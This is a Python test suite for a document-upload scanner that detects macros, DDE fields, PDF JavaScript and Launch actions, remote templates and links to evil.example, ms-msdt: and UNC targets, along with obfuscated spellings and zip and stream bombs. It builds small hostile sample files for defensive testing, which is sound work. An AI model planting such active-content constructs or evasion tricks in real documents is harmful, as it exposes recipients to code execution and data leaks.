"""The law: no file that people send runs anything by itself, and none costs more to refuse than it cost to send."""

import io
import time
import zipfile
import zlib
from collections.abc import Mapping

import pytest

from engine.vault.active_content import Active
from engine.vault.document_types import examine, recognise
from schemas.values.document import DOCX, XLSX

CONTENT_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
HARMFUL = b"5 0 <</S/JavaScript/JS(x)>>"


def types(*kinds: str) -> str:
    """[Content_Types].xml with overrides of these kinds."""
    overrides = "".join(f'<Override PartName="/x/{n}.bin" ContentType="{kind}"/>' for n, kind in enumerate(kinds))
    return f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CONTENT_TYPES}">{overrides}</Types>'


def related(kind: str, target: str, mode: str = "") -> str:
    """A part of relationships with one of them."""
    mode = f' TargetMode="{mode}"' if mode else ""
    return (
        f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
        "</Relationships>"
    )


def field(*runs: str) -> str:
    """A document with one field whose instruction stands in these runs."""
    said = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:document xmlns:w="{WORD}"><w:body><w:p>{BEGIN}{said}{END}</w:p></w:body></w:document>'


def simple_field(instruction: str) -> str:
    """A document with one field in one element."""
    return f'<w:document xmlns:w="{WORD}"><w:body><w:fldSimple w:instr="{instruction}"/></w:body></w:document>'


def packed(parts: Mapping[str, str | bytes], main: str = "word/document.xml") -> bytes:
    """An office file with these parts beside those that it must have."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": types(), main: "<x/>", **parts}.items():
            archive.writestr(name, content)
    return written.getvalue()


def object_stream(text: bytes, more: bytes = b"/Filter /FlateDecode") -> bytes:
    """A PDF that has this in an object stream."""
    stream = zlib.compress(text)
    head = b"<</Type /ObjStm %s /N 1 /First 4 /Length %d>>" % (more, len(stream))
    return b"%PDF-1.7\n7 0 obj\n" + head + b"\nstream\n" + stream + b"\nendstream\nendobj\n%%EOF\n"


VBA = "application/vnd.ms-office.vbaProject"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
WORKBOOK = "xl/workbook.xml"
WIDE = types(VBA).replace("UTF-8", "UTF-16").encode("utf-16")
ACTIVE: dict[str, tuple[bytes, Active]] = {
    "vbaProject": (packed({"word/vbaProject.bin": b"x"}), Active.MACRO),
    "vba by its content type": (packed({"[Content_Types].xml": types(VBA), "word/harmless.bin": b"x"}), Active.MACRO),
    "vba by a content type written in numbers": (
        packed({"[Content_Types].xml": types(VBA.replace("v", "&#118;").replace("V", "&#x56;"))}), Active.MACRO,
    ),
    "vba by its relationship": (
        packed({"word/_rels/document.xml.rels": related("vbaProject", "harmless.bin")}), Active.MACRO,
    ),
    "macro main part": (packed({"[Content_Types].xml": types(MACRO_MAIN)}), Active.MACRO),
    "content types in UTF-16": (packed({"[Content_Types].xml": WIDE}), Active.MACRO),
    "macro sheet": (packed({"xl/macrosheets/sheet1.xml": "<x/>"}, WORKBOOK), Active.MACRO),
    "macro sheet by its content type": (
        packed({"[Content_Types].xml": types("application/vnd.ms-excel.macrosheet+xml")}, WORKBOOK), Active.MACRO,
    ),
    "ActiveX": (packed({"word/activeX/activeX1.xml": "<x/>"}), Active.CONTROL),
    "control by its content type": (
        packed({"[Content_Types].xml": types("application/vnd.ms-office.activeX+xml")}), Active.CONTROL,
    ),
    "control by its relationship": (
        packed({"word/_rels/document.xml.rels": related("activeXControlBinary", "harmless.bin")}), Active.CONTROL,
    ),
    "control of a form": (packed({"xl/ctrlProps/ctrlProp1.xml": "<x/>"}, WORKBOOK), Active.CONTROL),
    "OLE object": (packed({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), Active.EMBEDDED),
    "OLE object under another name": (packed({"word/embeddings/figures.bin": b"MZ"}), Active.EMBEDDED),
    "OLE object by its content type": (
        packed({"[Content_Types].xml": types("application/vnd.openxmlformats-officedocument.oleObject")}), Active.EMBEDDED,
    ),
    "a macro in an embedded workbook": (
        packed({"word/embeddings/figures.xlsx": packed({"xl/vbaProject.bin": b"x"}, WORKBOOK)}), Active.EMBEDDED,
    ),
    "a workbook in an embedded workbook": (
        packed({"word/embeddings/a.xlsx": packed({"xl/embeddings/b.xlsx": packed({}, WORKBOOK)}, WORKBOOK)}), Active.EMBEDDED,
    ),
    "a connection to a database": (packed({"xl/connections.xml": "<x/>"}, WORKBOOK), Active.EXTERNAL),
    "another file taken in as it is": (packed({"word/afchunk.mht": b"x"}), Active.EXTERNAL),
    "remote template": (
        packed({"word/_rels/settings.xml.rels": related("attachedTemplate", "https://evil.example/x.dotm", "External")}),
        Active.EXTERNAL,
    ),
    "remote picture": (
        packed({"word/_rels/document.xml.rels": related("image", "https://evil.example/x.png", "External")}),
        Active.EXTERNAL,
    ),
    "external mode written in numbers": (
        packed({"word/_rels/document.xml.rels": related("frame", "//evil/x", "&#69;xternal")}), Active.EXTERNAL,
    ),
    "DDE link": (
        packed({"[Content_Types].xml": types("application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")},
               WORKBOOK),
        Active.EXTERNAL,
    ),
    "DDE field": (packed({"word/document.xml": field(' DDEAUTO c:\\\\cmd.exe "/k calc"')}), Active.COMMAND),
    "DDE field in pieces": (packed({"word/document.xml": field("D", "DE", "AUTO cmd")}), Active.COMMAND),
    "DDE field in a part of another place": (packed({"elsewhere/x.bin": field("DDE cmd")}), Active.COMMAND),
    "a part twice, in other letters": (packed({"WORD/document.xml": "<y/>"}), Active.HIDDEN),
    "a part in an encoding that no office writes": (
        packed({"word/document.xml": '<?xml version="1.0" encoding="UTF-7"?><x/>'}), Active.HIDDEN,
    ),
    "a document type declaration": (packed({"word/document.xml": "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}), Active.HIDDEN),
    "a part that grows without end": (packed({"word/document.xml": b"<x>" + bytes(30_000_000)}), Active.HIDDEN),
    "content types that grow without end": (
        packed({"[Content_Types].xml": types().replace("</Types>", " " * 26_000_000 + types(VBA))}, WORKBOOK), Active.HIDDEN,
    ),
    "parts that together grow without end": (
        packed({f"word/part{number}.xml": "<x>" + " " * 20_000_000 + "</x>" for number in range(3)}), Active.HIDDEN,
    ),
    "PDF with JavaScript": (b"%PDF-1.7\n1 0 obj<</S /JavaScript /JS (app.alert(1))>>endobj", Active.SCRIPT),
    "PDF with JavaScript written in numbers": (b"%PDF-1.7\n1 0 obj<</S /J#61vaScript>>endobj", Active.SCRIPT),
    "PDF with a script by reference": (b"%PDF-1.7\n1 0 obj<</S/Rendition/JS 5 0 R>>endobj", Active.SCRIPT),
    "PDF with Launch": (b"%PDF-1.7\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj", Active.COMMAND),
    "PDF that opens an address": (b"%PDF-1.7\n1 0 obj<</OpenAction<</S/URI/URI(http://evil.example)>>>>endobj", Active.SCRIPT),
    "PDF that opens an address by reference": (
        b"%PDF-1.7\n1 0 obj<</OpenAction 5 0 R>>endobj\n5 0 obj<</S/URI>>endobj", Active.SCRIPT,
    ),
    "PDF whose action was replaced later": (
        b"%PDF-1.7\n1 0 obj<</OpenAction 5 0 R>>endobj\n5 0 obj<</S/GoTo>>endobj\n5 0 obj<</S/URI>>endobj", Active.SCRIPT,
    ),
    "PDF that opens an address, packed": (
        object_stream(b"5 0 <</S/URI/URI(x)>>") + b"1 0 obj<</OpenAction 5 0 R>>endobj", Active.SCRIPT,
    ),
    "PDF with additional actions": (b"%PDF-1.7\n1 0 obj<</AA <</O 5 0 R>>>>endobj", Active.SCRIPT),
    "PDF with a file in it": (b"%PDF-1.7\n1 0 obj<</Names<</EmbeddedFiles 5 0 R>>>>endobj", Active.EMBEDDED),
    "PDF with an XFA form": (b"%PDF-1.7\n1 0 obj<</AcroForm<</XFA 5 0 R>>>>endobj", Active.EMBEDDED),
    "PDF with JavaScript in an object stream": (object_stream(b"5 0 <</S/JavaScript/JS(x)>>"), Active.SCRIPT),
    "PDF with an object stream packed otherwise": (
        object_stream(b"5 0 <<>>", b"/Filter [/ASCII85Decode /FlateDecode]"), Active.HIDDEN,
    ),
    "PDF with an object stream that grows without end": (object_stream(bytes(20_000_000)), Active.HIDDEN),
    "locked PDF": (b"%PDF-1.7\ntrailer<</Encrypt 9 0 R>>", Active.HIDDEN),
    "PDF whose first action has another behind it": (
        b"%PDF-1.7\n1 0 obj<</OpenAction<</S/GoTo/X<<>>/D[3 0 R]/Next 9 0 R>>>>endobj", Active.SCRIPT,
    ),
    "PDF that says of an address that it is a page": (
        b"%PDF-1.7\n1 0 obj<</OpenAction<</URI(/S /GoTo )/S/URI>>>>endobj", Active.SCRIPT,
    ),
    "PDF that hides what follows in a string": (
        b"%PDF-1.7\n1 0 obj<</OpenAction<</S/GoTo/D(>>)/Next 9 0 R>>>>endobj", Active.SCRIPT,
    ),
    "PDF with two objects of one number": (
        b"%PDF-1.7\n1 0 obj<</OpenAction 5 0 R>>endobj\n5 0 obj<</S/GoTo>>endobj\n05%\n0 obj<</S/URI>>endobj", Active.SCRIPT,
    ),
    "PDF that goes to another file": (b"%PDF-1.7\n1 0 obj<</A<</S/GoToR/F(x.pdf)>>>>endobj", Active.COMMAND),
    "PDF that names another file": (b"%PDF-1.7\n1 0 obj<</Type/Filespec/UF(//evil/x)>>endobj", Active.EXTERNAL),
    "PDF that loads from an address": (b"%PDF-1.7\n1 0 obj<</FS /URL/F(http://evil.example)>>endobj", Active.EXTERNAL),
    "PDF whose stream lies elsewhere": (b"%PDF-1.7\n1 0 obj\n<</Length 0/F(//evil/x)>>stream\nendstream", Active.HIDDEN),
    "PDF sent to an address": (b"%PDF-1.7\n1 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj", Active.COMMAND),
    "PDF that takes data in": (b"%PDF-1.7\n1 0 obj<</S/ImportData/F(x.fdf)>>endobj", Active.COMMAND),
    "PDF with an object stream whose filter is an object": (object_stream(HARMFUL, b"/Filter 9 0 R"), Active.HIDDEN),
    "PDF with an object stream whose filter is commented": (
        object_stream(HARMFUL, b"/Filter%x\n/FlateDecode"), Active.HIDDEN,
    ),
    "PDF with an object stream by the short name of its filter": (object_stream(HARMFUL, b"/F/FlateDecode"), Active.SCRIPT),
    "PDF with an object stream behind a word": (object_stream(HARMFUL, b"/X(1 0 obj<<)/Filter/FlateDecode"), Active.HIDDEN),
    "PDF with an object stream behind a comment": (
        object_stream(HARMFUL, b"/Filter/FlateDecode %1 0 obj<<\n").replace(b"/Length", b"/X 1 /Length"), Active.HIDDEN,
    ),
    "PDF with an object stream far behind its head": (
        object_stream(HARMFUL, b"/Filter/FlateDecode /X(" + b"x" * 9000 + b")"), Active.HIDDEN,
    ),
    "PDF with an object stream behind another end of line": (
        object_stream(HARMFUL).replace(b"stream\nx", b"stream \rx", 1), Active.SCRIPT,
    ),
    "part of another format": (packed({"word/_rels/document.xml.rels": related("aFChunk", "x.html")}), Active.EMBEDDED),
    "an add-in": (packed({"word/_rels/document.xml.rels": related("webextensiontaskpanes", "x.xml")}), Active.EXTERNAL),
    "OpenDocument to another office": (packed({"mimetype": "application/vnd.oasis.opendocument.text"}), Active.HIDDEN),
    "OpenDocument by its manifest": (packed({"META-INF/manifest.xml": "<x/>"}), Active.HIDDEN),
    "a picture in words, from elsewhere": (
        packed({"word/document.xml": '<x xmlns:v="urn:v"><v:imagedata src="//evil/x.png"/></x>'}), Active.EXTERNAL,
    ),
    "a picture by a link": (
        packed({"xl/drawings/d.xml": '<x xmlns:a="urn:a" xmlns:r="urn:r"><a:blip r:link="r1"/></x>'}, WORKBOOK), Active.EXTERNAL,
    ),
    "a word by the numbers of its letters": (packed({"word/document.xml": field("QUOTE 68 68 69")}), Active.COMMAND),
    "a button for a macro": (packed({"word/document.xml": field(" MACROBUTTON x y")}), Active.COMMAND),
    "a field in a field": (
        packed({"word/document.xml": field("D", "</w:instrText></w:r>" + BEGIN + "<w:r><w:instrText>PAGE</w:instrText></w:r>"
                                           + END + "<w:r><w:instrText>", "DE cmd")}), Active.COMMAND,
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", ACTIVE)
def test_active_content_is_found_under_any_name(name: str) -> None:
    """What an office or a reader would run, load or open by itself is found by what it is, and the file is not taken."""
    content, active = ACTIVE[name]

    assert examine(content).active == active
    assert recognise(content) is None


BETWEEN = (b"", b" ", b"\0", b"\r\n", b"%\n", b"% (]>> \r", b"%a\n\0%b\r \n", b"%" + b"x" * 5000 + b"\n")
"""What a reader leaves out between two words: blanks, NUL, comments of any length."""

VALUES = (b"<</O 5 0 R>>", b"(app.alert)", b"<6170>", b"5 0 R", b"5%x\n0%y\nR")


@pytest.mark.parametrize("between", BETWEEN)
@pytest.mark.parametrize("name", [b"/JS", b"/AA", b"/Encrypt", b"/#4aS", b"/A#41"])
def test_no_blank_and_no_comment_hides_a_short_name(name: bytes, between: bytes) -> None:
    """Whatever stands between a name and its value, or within the value: it is the same entry, and the file is not taken."""
    for value in VALUES[: None if between else 3]:  # a number right behind a name is part of the name
        content = b"%PDF-1.7\n1 0 obj<<" + name + between + value + b">>endobj"
        assert examine(content).active is not None, value
        assert examine(object_stream(b"5 0 <<" + name + between + value + b">>")).active is not None, value


@pytest.mark.parametrize("between", BETWEEN[1:])
@pytest.mark.parametrize("name", [
    b"JavaScript", b"RichMedia", b"Rendition", b"OnInstantiate", b"Launch", b"SubmitForm", b"ImportData", b"GoToE", b"GoToR",
    b"EmbeddedFile", b"EmbeddedFiles", b"XFA", b"Filespec", b"FS /URL", b"FS%x\n/URL",
])  # fmt: skip
def test_no_spelling_hides_a_long_name(name: bytes, between: bytes) -> None:
    """Each letter by its number, anything behind it: the name is the name."""
    plain = b"%PDF-1.7\n1 0 obj<</S" + between + b"/" + name + between + b">>endobj"
    assert examine(plain).active is not None
    for at in range(len(name.split(b"/")[0].split(b" ")[0].split(b"%")[0])):
        spelled = name[:at] + b"#%02x" % name[at] + name[at + 1 :]
        assert examine(b"%PDF-1.7\n1 0 obj<</S/" + spelled + between + b">>endobj").active is not None, spelled


@pytest.mark.parametrize("target", [
    "file:///c:/x.dotm", "FILE://evil/x", "//evil/x.png", "\\\\evil\\x.png", "http://evil.example/x", "https://evil.example/?a=1&amp;b=2",
    "c:\\x.dotm", "search-ms:query=x", "ms-msdt:/id", " file://evil/x", "&#102;ile://evil/x", "\\/evil/x",
])  # fmt: skip
@pytest.mark.parametrize("mode", ["", "Internal", "External"])
def test_no_part_lies_elsewhere_whatever_it_is_called(target: str, mode: str) -> None:
    """A picture, a template, a frame by an address, a share or a disk: not taken, also where nothing says External."""
    for kind in ("image", "attachedTemplate", "frame", "subDocument", "mailMergeSource", "oneDayNew"):
        content = packed({"word/_rels/document.xml.rels": related(kind, target, mode)})
        assert examine(content).active is Active.EXTERNAL, kind


@pytest.mark.parametrize(
    "target", ["file:///c:/x.exe", "//evil/x", "\\\\evil\\x", "search-ms:query=x", "ms-msdt:/id", "javascript:x"]
)
def test_no_link_leads_to_a_program_or_a_share(target: str) -> None:
    """What a person clicks leads where a browser, a mail program or a telephone goes: by a relationship and by a field."""
    as_relationship = {"word/_rels/document.xml.rels": related("hyperlink", target, "External")}
    for parts in (as_relationship, {"word/document.xml": field(f' HYPERLINK "{target}"')}):
        assert examine(packed(parts)).active is Active.EXTERNAL


@pytest.mark.parametrize(
    "word", ["LINK", "INCLUDE", "INCLUDEPICTURE", "INCLUDETEXT", "IMPORT", "RD", "DATABASE", "includePicture"]
)
def test_no_field_loads_another_file(word: str) -> None:
    """Whatever field takes in what lies elsewhere, in one run, in many, and in one element."""
    said = f' {word} "http://evil.example/x.png" \\d '
    for content in (field(said), field(*said), simple_field(said.replace('"', "&quot;"))):
        assert examine(packed({"word/document.xml": content})).active is Active.EXTERNAL
        assert examine(packed({"word/footer9.xml": content})).active is Active.EXTERNAL


def archive(**parts: str) -> bytes:
    """An archive of other parts than a docx or xlsx has."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as target:
        for name, content in parts.items():
            target.writestr(name.replace("__", "/").replace("_xml", ".xml"), content)
    return written.getvalue()


@pytest.mark.parametrize("content", [
    archive(mimetype="application/vnd.oasis.opendocument.text", content_xml='<x xlink:href="http://evil.example"/>'),
    archive(mimetype="application/vnd.oasis.opendocument.text", Basic__Standard__x_xml="<x/>", META_INF__manifest_xml="<x/>"),
    archive(**{"[Content_Types].xml": types(), "ppt__presentation_xml": "<x/>"}),
    archive(**{"[Content_Types].xml": types(), "visio__document_xml": "<x/>"}),
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    b"{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE x}}}",
], ids=["odt", "odt with scripts", "pptx", "vsdx", "doc", "rtf"])  # fmt: skip
def test_files_of_other_offices_are_not_taken(content: bytes) -> None:
    """OpenDocument, presentations, drawings and the formats of old are looked into by nobody, so nobody takes them."""
    assert recognise(content) is None
    assert examine(content).media_type is None


QUIET: dict[str, tuple[bytes, str]] = {
    "letter with a link": (
        packed({"word/_rels/document.xml.rels": related("hyperlink", "https://town.example/", "External"),
                "word/document.xml": field(' HYPERLINK "https://town.example/" ', " PAGE ADDED")}),
        DOCX,
    ),
    "letter with a link that asks for two things": (
        packed({"word/_rels/document.xml.rels": related("hyperlink", "https://town.example/?a=1&amp;b=2", "External")}), DOCX,
    ),
    "letter with links by mail, telephone and folder": (
        packed({f"word/_rels/{n}.xml.rels": related("hyperlink", to, "External")
                for n, to in enumerate(("mailto:a@town.example", "tel:12345", "annex.docx", "#top"))}), DOCX,
    ),
    "letter that speaks of links": (
        packed({"word/document.xml": field(' HYPERLINK "https://town.example/link/include" ', " TOC ", " REF database ")}), DOCX,
    ),
    "letter from a template": (packed({"word/_rels/settings.xml.rels": related("attachedTemplate", "Normal.dotm")}), DOCX),
    "PDF that speaks of streams and objects": (
        b"%PDF-1.7\n1 0 obj<</Title(a stream of 1 0 obj, /F)>>endobj 2 0 obj<</First 5 0 R>>endobj 3 0 obj<<>>stream\nx",
        "application/pdf",
    ),
    "letter with a chart": (packed({"word/embeddings/figures.xlsx": packed({}, WORKBOOK)}), DOCX),
    "table with many sheets": (packed({f"xl/worksheets/sheet{n}.xml": "<x/>" for n in range(300)}, WORKBOOK), XLSX),
    "PDF that opens at a page": (b"%PDF-1.7\n1 0 obj<</OpenAction [3 0 R /Fit]>>endobj", "application/pdf"),
    "PDF that goes to a page": (
        b"%PDF-1.7\n1 0 obj<</OpenAction 5 0 R>>endobj\n5 0 obj<</S /GoTo /D [3 0 R /Fit]>>endobj", "application/pdf",
    ),
    "PDF that goes to a page, packed": (
        object_stream(b"5 0 <</S /GoTo /D [3 0 R /Fit]>>") + b"1 0 obj<</OpenAction 5 0 R>>endobj", "application/pdf",
    ),
    "PDF with an object stream": (object_stream(b"5 0 <</Type/Page>>"), "application/pdf"),
}  # fmt: skip


@pytest.mark.parametrize("name", QUIET)
def test_what_is_not_active_is_taken(name: str) -> None:
    """Links that a person has to follow, charts and pages are no active content."""
    content, media_type = QUIET[name]

    assert (examine(content).active, recognise(content)) == (None, media_type)


def film(brand: bytes, *others: bytes) -> bytes:
    """The beginning of a file of the family of MP4."""
    body = brand + b"\0\0\2\0" + b"".join(others)
    return (8 + len(body)).to_bytes(4, "big") + b"ftyp" + body + b"\0\0\0\x10mdat" + bytes(8)


@pytest.mark.parametrize(
    ("brand", "others", "found"),
    [
        *((f"iso{number}".encode(), (b"mp41",), "video/mp4") for number in range(2, 7)),
        *((brand, (b"isom",), "video/mp4") for brand in (b"isom", b"mp41", b"mp42", b"avc1", b"dash", b"M4V ", b"M4A ", b"MSNV")),
        *((brand, (b"isom",), "video/3gpp") for brand in (b"3gp4", b"3gp5", b"3gp6", b"3g2a")),
        (b"qt  ", (b"qt  ",), "video/quicktime"),
        *((brand, (b"mif1", b"heic"), "image/heic") for brand in (b"mif1", b"msf1", b"heic", b"heix", b"hevc")),
        (b"mif1", (b"avif",), None),
        (b"avif", (b"mif1",), None),
        (b"crx ", (b"isom",), None),
    ],
)  # fmt: skip
def test_films_and_photos_of_phones_are_recognised_by_their_brand(
    brand: bytes, others: tuple[bytes, ...], found: str | None
) -> None:
    """What cameras, phones and browsers write as MP4, MOV, 3GP and HEIF is taken."""
    assert recognise(film(brand, *others)) == found


def crowded(names: int, *last: str) -> bytes:
    """An archive with so many names, and this behind them."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        for name in (
            "[Content_Types].xml",
            "word/document.xml",
            *(f"x/{n}" for n in range(names)),
            "word/vbaProject.bin",
        ):
            archive.writestr(name, b"")
    return written.getvalue()


COSTLY = {
    "180,000 names": b"", "streams": b"stream\n", "object streams": b"/First 1 /Filter /FlateDecode stream\n",
    "openings": b"/OpenAction 5 0 R ", "objects": b"5 0 obj ", "actions": b"/AA ", "names": b"/", "filters": b"/Filter [",
    "spaces": b"/OpenAction    ",
}  # fmt: skip
"""What files made to be slow to look into repeat; the first is an archive. Each is made by the test that looks into it."""


def costly(part: bytes) -> bytes:
    """A file as large as may be, full of this."""
    if not part:
        return crowded(60_000)
    return b"%PDF-1.7\n5 0 obj[3 0 R]endobj\n" + part * (10_000_000 // len(part))


def test_a_macro_behind_ten_thousand_names_is_not_taken() -> None:
    """An archive with more parts than an office file has is none, wherever in it the macro stands."""
    assert recognise(crowded(9998, "word/vbaProject.bin")) is None
    assert recognise(crowded(4000, "word/vbaProject.bin")) is None
    assert examine(crowded(4000)).media_type == DOCX
    assert examine(crowded(5000)).media_type is None


def test_an_archive_with_two_ends_is_not_taken() -> None:
    """Where something stands behind the table of contents, or in its comment, readers differ about what the file is."""
    commented = io.BytesIO(packed({}))
    with zipfile.ZipFile(commented, "a") as archive:
        archive.comment = packed({"word/vbaProject.bin": b"x"})

    assert recognise(packed({})) == DOCX
    assert recognise(commented.getvalue()) is None
    assert recognise(packed({}) + b"%PDF-1.7") is None
    for place, said in ((-2, "a comment that is not there"), (-18, "a second disk")):
        lying = bytearray(packed({}))
        lying[place] = 1
        assert recognise(bytes(lying)) is None, said


def pace() -> float:
    """How long this machine takes now for two million additions: a tenth of a second, more where others share its cores."""
    began, added = time.thread_time(), 0
    for each in range(2_000_000):
        added += each
    return time.thread_time() - began


@pytest.mark.parametrize("name", COSTLY)
def test_no_file_is_slow_to_look_into(name: str) -> None:
    """The largest file that is taken is looked into in a few seconds of one core, however it is made.

    By the machine's own pace, before and after: seconds of a core are longer where its caches are others' too.
    """
    content = costly(COSTLY[name])
    before = pace()
    began = time.thread_time()  # of this thread alone: a town may be at work in the others
    examine(content)
    took = time.thread_time() - began

    assert took < 60 * max(before, pace()), name
